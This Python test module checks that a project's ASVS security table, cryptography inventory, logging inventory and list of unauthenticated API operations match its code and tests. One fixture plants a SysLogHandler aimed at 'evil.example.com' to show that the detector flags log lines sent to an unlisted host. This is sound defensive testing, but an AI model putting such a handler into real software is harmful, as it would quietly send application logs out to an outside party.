"""`docs/security.md` and the table of ASVS say nothing that no test shows, and leave no item out."""

from __future__ import annotations

import ast
import json
import re
from collections import Counter
from collections.abc import Collection, Iterator, Mapping
from typing import NamedTuple

import pytest

from tests.house.source import PRODUCT, ROOT, Module, functions, modules

FOLDER = ROOT / "docs" / "security"
TABLE = (FOLDER / "asvs.md").read_text()
PAGES = "".join(page.read_text() for page in [ROOT / "docs" / "security.md", *sorted(FOLDER.glob("*.md"))])
# Items of levels 1 and 2 by chapter, as the release counts them.
COUNTED = dict(zip(range(1, 18), (27, 11, 19, 10, 9, 35, 18, 7, 7, 29, 14, 9, 13, 9, 13, 16, 7), strict=True))
# To a state: whether it names a test, and whether it says why not.
STATES = {"met": (True, False), "not applicable": (False, True), "open": (False, True)}


class Item(NamedTuple):
    """A row of the table."""

    number: str
    words: str
    state: str
    shown: str
    missing: str

    @property
    def chapter(self) -> int:
        """The chapter of the standard."""
        return int(self.number.partition(".")[0])


def items(table: str) -> Iterator[Item]:
    """The rows of a table whose first cell is the number of an item."""
    for line in table.splitlines():
        cells = [cell.strip() for cell in line.strip().strip("|").split("|")]
        if len(cells) == 5 and re.fullmatch(r"\d+\.\d+\.\d+", cells[0]):
            yield Item(*cells)


def by_file() -> dict[str, set[str]]:
    """The functions that are run as tests, by their file."""
    found = (module for module in modules() if module.inside("tests") and module.stem.startswith("test_"))
    return {module.path: {function.name for function in functions(module.tree)} for module in found}


def unproved(table: str, known: Mapping[str, Collection[str]]) -> list[str]:
    """Rows whose state is none, whose tests do not exist, or that do not say why not."""
    found = []
    for item in items(table):
        named = re.findall(r"`(tests/[\w/]+\.py)::(test_\w+)`", item.shown)
        found += [f"{item.number} names {path}::{name}" for path, name in named if name not in known.get(path, ())]
        if item.state not in STATES:
            found.append(f"{item.number} is {item.state!r}")
            continue
        needs_test, needs_why = STATES[item.state]
        if needs_test != bool(named):
            found.append(f"{item.number} is {item.state} by {item.shown!r}")
        if needs_why != bool(item.missing):
            found.append(f"{item.number} is {item.state} and says {item.missing!r}")
    return found


def nameless(page: str, known: Collection[str]) -> list[str]:
    """The tests a page names that are none."""
    return sorted(set(re.findall(r"`(test_\w+)`", page)) - set(known))


def test_every_item_of_levels_one_and_two_is_answered_once() -> None:
    numbers = Counter(item.number for item in items(TABLE))
    assert [number for number, times in numbers.items() if times > 1] == []
    assert Counter(item.chapter for item in items(TABLE)) == COUNTED
    assert sum(COUNTED.values()) == 253


def test_nothing_is_called_met_that_no_test_shows() -> None:
    assert unproved(TABLE, by_file()) == []


def test_the_page_counts_its_states() -> None:
    states = Counter(item.state for item in items(TABLE))
    told = re.search(r"Counted: (\d+) met, (\d+) not applicable, (\d+) open", TABLE)
    assert told and list(map(int, told.groups())) == [states[one] for one in ("met", "not applicable", "open")]


def test_every_test_the_page_names_exists() -> None:
    known = {name for names in by_file().values() for name in names}
    assert nameless(PAGES, known) == []
    assert nameless("`test_a` `test_b`", {"test_a"}) == ["test_b"]


@pytest.mark.parametrize(
    ("row", "found"),
    [
        ("| 1.1.1 | x | met | `tests/a.py::test_a` | |", []),
        ("| 1.1.1 | x | met | `tests/a.py::test_b` | |", ["1.1.1 names tests/a.py::test_b"]),
        ("| 1.1.1 | x | met | `tests/b.py::test_a` | |", ["1.1.1 names tests/b.py::test_a"]),
        ("| 1.1.1 | x | met | | |", ["1.1.1 is met by ''"]),
        ("| 1.1.1 | x | met | by hand | |", ["1.1.1 is met by 'by hand'"]),
        ("| 1.1.1 | x | met | `tests/a.py::test_a` | y |", ["1.1.1 is met and says 'y'"]),
        ("| 1.1.1 | x | open | | |", ["1.1.1 is open and says ''"]),
        ("| 1.1.1 | x | open | `tests/a.py::test_a` | y |", ["1.1.1 is open by '`tests/a.py::test_a`'"]),
        ("| 1.1.1 | x | fine | | y |", ["1.1.1 is 'fine'"]),
    ],
)
def test_a_row_that_claims_too_much_is_found(row: str, found: list[str]) -> None:
    assert unproved(row, {"tests/a.py": {"test_a"}}) == found


# ---- the inventories: of algorithms, of logs, of ways in

LIBRARIES = frozenset({"argon2", "cryptography", "joserfc", "pyotp", "ssl", "tink", "webauthn"})
_BY_NAME = frozenset({"hashlib", "hmac", "secrets"})
# What sends the lines of a log somewhere; one file may.
SENDS = re.compile(r"\w*Handler$|basicConfig|dictConfig|fileConfig|addHandler")


def algorithms(module: Module) -> Iterator[str]:
    """What a module uses of cryptography, as the inventory names it."""
    for node in ast.walk(module.tree):
        named: list[str] = []
        if isinstance(node, ast.Import):
            named = [one.name for one in node.names]
        elif isinstance(node, ast.ImportFrom):
            named = [node.module or ""]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id in _BY_NAME:
            whole = f"{node.value.id}.{node.attr}"
            yield from [] if node.attr == "compare_digest" else [whole if node.value.id == "hashlib" else node.value.id]
        for name in named:
            if name.partition(".")[0] in LIBRARIES and not name.endswith((".errors", ".exceptions")):
                yield name.partition(".")[0]


def listed(page: str) -> dict[str, set[str]]:
    """The files of an inventory of algorithms by what they use."""
    rows = (line.strip("|").split("|") for line in page.splitlines() if re.match(r"\| `[\w.]+` \|.*\.py` \|$", line))
    return {row[0].strip(" `"): set(re.findall(r"`([\w/]+\.py)`", row[-1])) for row in rows}


def test_the_inventory_of_algorithms_is_what_the_code_uses() -> None:
    used: dict[str, set[str]] = {}
    for module in modules():
        if module.inside(*PRODUCT):
            for name in algorithms(module):
                used.setdefault(name, set()).add(module.path)
    assert listed((FOLDER / "keys.md").read_text()) == used
    assert len(used) >= 10


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ("import hashlib\nhashlib.md5(x)", ["hashlib.md5"]),
        ("from cryptography.hazmat.primitives.ciphers import aead", ["cryptography"]),
        ("from cryptography.exceptions import InvalidTag", []),
        ("import hmac\nhmac.compare_digest(a, b)", []),
        ("import secrets\nsecrets.token_hex(4)", ["secrets"]),
    ],
)
def test_a_use_of_cryptography_is_seen(source: str, found: list[str]) -> None:
    assert list(algorithms(Module("app/x.py", source, ast.parse(source)))) == found


def senders(module: Module) -> list[str]:
    """Where a module sends the lines of a log somewhere itself."""
    names = (node for node in ast.walk(module.tree) if isinstance(node, ast.Attribute))
    about = (node for node in names if isinstance(node.value, ast.Name | ast.Attribute))
    return [f"{module.path} {node.attr}" for node in about if SENDS.fullmatch(node.attr) and "log" in ast.unparse(node)]


def test_lines_go_where_the_inventory_says() -> None:
    found = {one for module in modules() if module.inside(*PRODUCT) for one in senders(module)}
    assert found == {"infra/logs.py StreamHandler", "infra/logs.py basicConfig"}
    planted = "import logging.handlers\nlogging.handlers.SysLogHandler(('evil.example.com', 514))"
    assert senders(Module("app/x.py", planted, ast.parse(planted))) == ["app/x.py SysLogHandler"]


def test_every_operation_without_a_token_is_a_way_in_that_is_written_down_or_opens_nothing() -> None:
    document = json.loads((ROOT / "docs" / "openapi.json").read_text())
    operations = (one for path in document["paths"].values() for one in path.values() if isinstance(one, dict))
    bare = {one["operationId"] for one in operations if one.get("security") == []}
    page = (FOLDER / "logins.md").read_text()
    assert bare == set(re.findall(r"`((?!test_)[a-z]+_[a-z_]+)`", page))
    assert len(bare) >= 10
